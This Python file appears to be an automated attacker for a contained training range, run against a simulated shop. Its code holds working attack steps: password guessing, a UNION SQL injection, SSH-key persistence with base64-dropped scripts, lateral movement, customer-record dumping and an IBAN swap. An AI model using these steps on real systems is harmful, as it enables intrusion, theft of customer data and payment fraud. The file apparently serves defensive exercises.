"""The intruder: the same stages over and over, one wave after another.

Everything it does is typed by hand in textbooks: it reads pages, tries
passwords, leaves a key and two shell scripts, copies records, changes a bank
account. It never leaves the instance, and writes what worked to
/var/log/attacker/stages.jsonl: time, wave, stage, result (ok or refused).
"""

import base64
import http.client
import os
import random
import re
import shlex
import socket
import time
import urllib.parse

import actor

E = os.environ
BASTION, WEB = E["BASTION"], E["WEB"]
LOGIN = E["ACCOUNT"]
WAYS = {"B": "guess", "F": "leak", "D": "injection"}  # letters of the question way-in
WAY = WAYS[E["TECHNIQUE"]]
PACE = "/run/attacker-pace"
KEY = "/root/key"
BANNER = "Mozilla/5.0 (X11; Linux x86_64; rv:91.0) Gecko/20100101 Firefox/91.0"

dice = random.Random(E["DICE"])
log = actor.Log("/var/log/attacker/stages.jsonl")


class Intruder:
    """What is known and what works, from one wave to the next."""

    def __init__(self):
        self.public = actor.make_key(E["KEY"], f"{LOGIN}@{E['IMPLANT']}", KEY)
        self.address = E["ADDRESS"]
        self.password = None
        self.wave = 0

    # --- conversations ---------------------------------------------------

    def get(self, path, source=None):
        """The text of a page, or None unless the answer is 200."""
        connection = http.client.HTTPConnection(WEB, 80, timeout=4, source_address=(source or self.address, 0))
        try:
            connection.request("GET", path, headers={"User-Agent": BANNER})
            answer = connection.getresponse()
            text = answer.read(1 << 20).decode("utf-8", "replace")
            return text if answer.status == 200 else None
        except (OSError, http.client.HTTPException):
            return None
        finally:
            connection.close()

    def opens(self, host, port, source=None):
        try:
            socket.create_connection((host, port), timeout=2.5, source_address=(source or self.address, 0)).close()
            return True
        except OSError:
            return False

    def sessions(self):
        """Every way to log in, the planted key first."""
        yield actor.SSH(LOGIN, key=KEY, source=self.address, timeout=6)
        if self.password:
            yield actor.SSH(LOGIN, password=self.password, source=self.address, timeout=6)

    def on_bastion(self, command, stdin=""):
        if not self.opens(BASTION, 22):
            return None
        return first(s.run(BASTION, command, stdin=stdin) for s in self.sessions())

    def on_web(self, command, stdin=""):
        """Straight to the web server, else through the bastion."""
        found = None
        if self.opens(WEB, 22):
            found = first(s.run(WEB, command, stdin=stdin) for s in self.sessions())
        if found is None and self.opens(BASTION, 22):
            found = first(s.run(WEB, command, through=BASTION, stdin=stdin) for s in self.sessions())
        return found

    # --- where it comes from ---------------------------------------------

    def choose_address(self):
        """Keeps its address while it reaches both doors, else takes a fresh
        one; False when the network lets nothing through."""
        def doors(source):
            return self.opens(WEB, 80, source) + self.opens(BASTION, 22, source)

        best = doors(self.address)
        for fresh in dice.sample(range(199, 220), 2):
            if best == 2:
                break
            candidate = E["NETWORK"] + str(fresh)
            actor.add_address(candidate, 24)
            reached = doors(candidate)
            if reached > best:
                self.address, best = candidate, reached
        return best > 0

    # --- stages ----------------------------------------------------------

    def reconnaissance(self):
        pages = [self.get(p) for p in ("/", "/robots.txt", "/horaires", "/paiement")]
        return any(pages)

    def entry(self):
        """The seed's technique gives a password; it must open the bastion."""
        for password in [*getattr(self, WAY)(), self.password]:
            if not password or not self.opens(BASTION, 22):
                continue
            if actor.SSH(LOGIN, password=password, source=self.address, timeout=6).run(BASTION, "id") is not None:
                self.password = password
                return True
        return False

    def guess(self):
        yield from E["WORDS"].split(",")

    def leak(self):
        found = re.search(r"password = (\S+)", self.get(E["LEAK"]) or "")
        if found:
            yield found[1]

    def injection(self):
        page = self.inject("login, password, note from staff")
        found = re.search(rf"<b>{re.escape(LOGIN)}</b> : (\S+) \(", page or "")
        if found:
            yield found[1]

    def inject(self, columns):
        text = f"x' union select {columns} -- "
        return self.get(f"/{E['PLUGIN']}?{E['PLUGIN_PARAM']}={urllib.parse.quote(text)}")

    def come_back(self):
        """By the planted key alone."""
        return self.opens(BASTION, 22) and \
            actor.SSH(LOGIN, key=KEY, source=self.address, timeout=6).run(BASTION, "id") is not None

    def persistence(self):
        """A key, a program that puts it back, and a job that starts the program."""
        return self.on_bastion("sh -s", stdin=f"""
            keep={shlex.quote(E['HIDEOUT'])}/keep
            job=/opt/maintenance/{E['IMPLANT']}
            {self.plant_key()}
            [ -x "$keep" ] || {{ mkdir -p "${{keep%/*}}" && echo {encoded('keep')} | base64 -d > "$keep" && chmod 755 "$keep"; }}
            [ -x "$job" ] || {{ echo {encoded('job')} | base64 -d > "$job" && chmod 755 "$job"; }}
            pgrep -f "$keep" >/dev/null || setsid "$keep" </dev/null >/dev/null 2>&1 &
            exit 0
        """) is not None

    def plant_key(self):
        line = shlex.quote(self.public)
        return f"""
            umask 077; mkdir -p ~/.ssh; echo {line} > ~/.{E['IMPLANT']}.pub
            grep -qxF {line} ~/.ssh/authorized_keys 2>/dev/null || echo {line} >> ~/.ssh/authorized_keys
            umask 022
        """

    def lateral(self):
        return self.on_web("sh -s", stdin=self.plant_key() + "\nexit 0\n") is not None

    def exfiltration(self):
        """The customers' records, through the web server or the old component.
        The copy in the shop's pictures counts when it was made now."""
        if self.take_records():
            return True
        if WAY == "injection":
            return E["MARKER"] in (self.inject("name, email, city from customers") or "")
        return False

    def take_records(self):
        records = self.query_on_web("select id, name, email, city from customers order by id")
        if records is None or E["MARKER"] not in records:
            return False
        path = "/var/www/shop/media/" + E["DUMP"]
        if self.on_web(f"cat > {path}.new && chmod 644 {path}.new && mv -f {path}.new {path}", stdin=records) is not None:
            self.get("/media/" + E["DUMP"])
        return True

    def fraud(self):
        change = f"update settings set value = '{E['IBAN']}' where key = 'iban' returning key, value"
        return E["IBAN"] in (self.query_on_web(change) or "")

    def query_on_web(self, sql):
        """With the password that the shop's own configuration gives."""
        program = f"""
import configparser, csv, sys, psycopg2
conf = configparser.ConfigParser(interpolation=None)
conf.read("/etc/shop/shop.conf")
base = conf["database"]
link = psycopg2.connect(host=base["host"], dbname=base["name"], user=base["user"], password=base["password"], connect_timeout=6)
link.autocommit = True
cursor = link.cursor()
cursor.execute({sql!r})
csv.writer(sys.stdout).writerows(cursor.fetchall())
"""
        return self.on_web("python3 -", stdin=program)

    STAGES = {
        "entry": entry, "return": come_back, "persistence": persistence,
        "lateral": lateral, "exfiltration": exfiltration, "fraud": fraud,
    }

    def play(self):
        """One wave. Reconnaissance costs the shop nothing and always may go on."""
        self.wave += 1
        reached = self.choose_address()
        if reached:
            self.reconnaissance()
            log.write(wave=self.wave, stage="reconnaissance", result="seen")
        won = 0
        for name, stage in self.STAGES.items():
            worked = reached and stage(self)
            won += worked
            log.write(wave=self.wave, stage=name, result="ok" if worked else "refused")
        log.write(wave=self.wave, stage="wave", result="ok" if won else "refused")
        self.noise()

    def noise(self):
        """Machines that try everybody's doors, and have nothing to do with it."""
        one, two = E["NOISE"].split(",")
        for path in ("/wp-login.php", "/.env", "/backup.sql", "/index.php?id=1%27%20or%201=1--%20", "/admin"):
            self.get(path, source=dice.choice((one, two)))
        if self.wave % 3 == 1 and self.opens(BASTION, 22, one):
            actor.SSH(dice.choice(("root", "admin", "test")), password="123456", source=one, timeout=6).run(BASTION, "id")


def encoded(name):
    """A script of this machine, fit to be typed into another."""
    with open("/opt/script/" + name, "rb") as file:
        return base64.b64encode(file.read()).decode()


def first(results):
    return next((r for r in results if r is not None), None)


def rest():
    """Until the next wave: CYCLE seconds, or what PACE says meanwhile."""
    began = time.monotonic()
    while True:
        try:
            with open(PACE) as file:
                wanted = float(file.read())
        except (OSError, ValueError):
            wanted = float(E["CYCLE"])
        if time.monotonic() - began >= wanted:
            return
        time.sleep(0.3)


def main():
    actor.wait_for_card()
    for address in [E["ADDRESS"], *E["NOISE"].split(",")]:
        actor.add_address(address, 24)
    os.system("ip route replace default via " + shlex.quote(E["GATEWAY"]))
    intruder = Intruder()
    while not (intruder.get("/") and intruder.opens(BASTION, 22)):
        time.sleep(1)
    time.sleep(float(E["LULL"]))
    while True:
        intruder.play()
        rest()


main()
